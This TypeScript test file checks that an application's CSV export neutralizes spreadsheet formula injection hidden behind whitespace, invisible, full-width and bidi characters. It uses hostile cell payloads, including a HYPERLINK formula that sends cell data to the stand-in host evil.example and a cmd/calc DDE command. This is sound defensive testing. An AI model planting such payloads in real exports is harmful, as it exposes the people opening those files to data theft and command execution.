/**
 * The one CSV writer of every export (shared/csv-export.ts; issue 14 points 4 and 5): a cell a
 * spreadsheet would run as a formula is neutralized however its start is disguised (leading
 * whitespace, NBSP, zero-width characters, BOM, bidi marks, LF/CR/tab, full-width and small forms
 * of = + - @), bidi and control characters are shown as `<U+XXXX>`, and the document stays one
 * record per line that reads back to the same cells.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { csv as cliCsv } from '../../electron/cli/output.js';
import { csvCell, csvDocument, looksLikeFormula } from '../../shared/csv-export.js';
import { hasActiveCharacters } from '../../shared/inert-text.js';
import { cliPath, fixture, tempDir } from '../helpers.js';

const STARTERS = [
  '=',
  '+',
  '-',
  '@',
  '\uff1d',
  '\uff0b',
  '\uff0d',
  '\uff20',
  '\ufe66',
  '\ufe62',
  '\ufe63',
  '\ufe6b',
  '\u2212',
];
const DISGUISES = [
  '',
  ' ',
  '   ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\u00a0',
  '\u200b',
  '\u200c',
  '\u200d',
  '\u2060',
  '\ufeff',
  '\u200e',
  '\u202e',
  '\u2066',
  '\u3000',
  '\u2003',
  ' \u00a0\u200b\ufeff\t',
];
const BODIES = ['1+1', 'HYPERLINK("https://evil.example/?"&A1,"click")', "cmd|' /C calc'!A0", 'SUM(A1:A9)'];

/** RFC 4180 reader for the writer's output: quoted cells, doubled quotes, CRLF records. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

/** What a spreadsheet decides on: the first character after blanks and invisibles. */
const firstMeaningful = (cell: string) =>
  /^[\s\u00a0\u200b-\u200f\u2028-\u202f\u2060-\u206f\u3000\ufeff]*(.)/su.exec(cell)?.[1];

test('every disguised formula start is neutralized with a leading quote (hostile inputs: 13 starters x 19 disguises x 4 bodies)', () => {
  let tried = 0;
  for (const starter of STARTERS)
    for (const disguise of DISGUISES)
      for (const body of BODIES) {
        const value = `${disguise}${starter}${body}`;
        const cell = readCsv(csvDocument(['v'], [[value]]))[1]![0]!;
        tried++;
        // Either the quote prefix, or the disguise itself was made visible text (a `<U+…>` token).
        assert.ok(
          ["'", '<'].includes(firstMeaningful(cell) ?? ''),
          `${JSON.stringify(value)} -> ${JSON.stringify(cell)}`,
        );
        assert.ok(!STARTERS.includes(firstMeaningful(cell) ?? ''), JSON.stringify(value));
        assert.equal(hasActiveCharacters(cell), false, JSON.stringify(value));
      }
  assert.equal(tried, 13 * 19 * 4);
});

test('ordinary cells are left as they are; quotes, commas and line breaks stay inside their cell', () => {
  for (const ok of ['alice@contoso.com', 'T1098.002', 'Zoë Müller', '2024-03-04T09:15:02Z', '1+1', 'a=b', 'x@y']) {
    assert.equal(looksLikeFormula(ok), false, ok);
    assert.equal(csvCell(ok), ok);
  }
  assert.equal(csvCell('say "hi", then go'), '"say ""hi"", then go"');
  const doc = csvDocument(
    ['a', 'b'],
    [
      ['one\r\ntwo', 'x,"y"'],
      ['=1', '\u202eevil'],
    ],
  );
  const rows = readCsv(doc);
  assert.equal(doc.split('\r\n').length, 4, 'three records and the final CRLF: no record broken by a cell');
  assert.deepEqual(rows, [
    ['a', 'b'],
    ['one<U+000D><U+000A>two', 'x,"y"'],
    ["'=1", '<U+202E>evil'],
  ]);
});

test('bidi overrides, isolates and marks in a cell are shown, not applied', () => {
  for (const c of [
    '\u202a',
    '\u202b',
    '\u202c',
    '\u202d',
    '\u202e',
    '\u2066',
    '\u2067',
    '\u2068',
    '\u2069',
    '\u200e',
    '\u200f',
    '\u061c',
  ]) {
    const cell = csvCell(`ceo${c}@contoso.com`);
    assert.equal(cell, `ceo<U+${c.charCodeAt(0).toString(16).toUpperCase().padStart(4, '0')}>@contoso.com`);
  }
});

test('the CLI writes CSV with this one function, and findings --csv neutralizes a full-width formula in evidence', () => {
  assert.equal(cliCsv, csvDocument);
  const dir = tempDir();
  const file = path.join(dir, 'evil.csv');
  fs.writeFileSync(
    file,
    fs
      .readFileSync(fixture('purview-new-fullaccess.csv'), 'utf8')
      .replaceAll('it-admin@example.com', '\uff1dcmd|calc@example.com')
      .replaceAll('helpdesk7@example.com', 'helpdesk7\u202e@example.com'),
  );
  const casePath = path.join(dir, 'case.db');
  assert.equal(spawnSync(process.execPath, [cliPath, 'import', casePath, file]).status, 0);
  const r = spawnSync(process.execPath, [cliPath, 'findings', casePath, '--csv'], { encoding: 'utf8' });
  assert.equal(r.status, 0, r.stderr);
  const rows = readCsv(r.stdout);
  const principals = rows[0]!.indexOf('principals');
  const grant = rows.find((row) => row[principals]!.includes('cmd|calc'))!;
  assert.match(grant[principals]!, /^'\uff1dcmd\|calc@example\.com /);
  assert.match(r.stdout, /helpdesk7<U\+202E>@example\.com/);
  assert.equal(hasActiveCharacters(r.stdout.replaceAll('\r\n', '')), false);
  for (const row of rows) for (const cell of row) assert.ok(!STARTERS.includes(firstMeaningful(cell) ?? ''), cell);
});
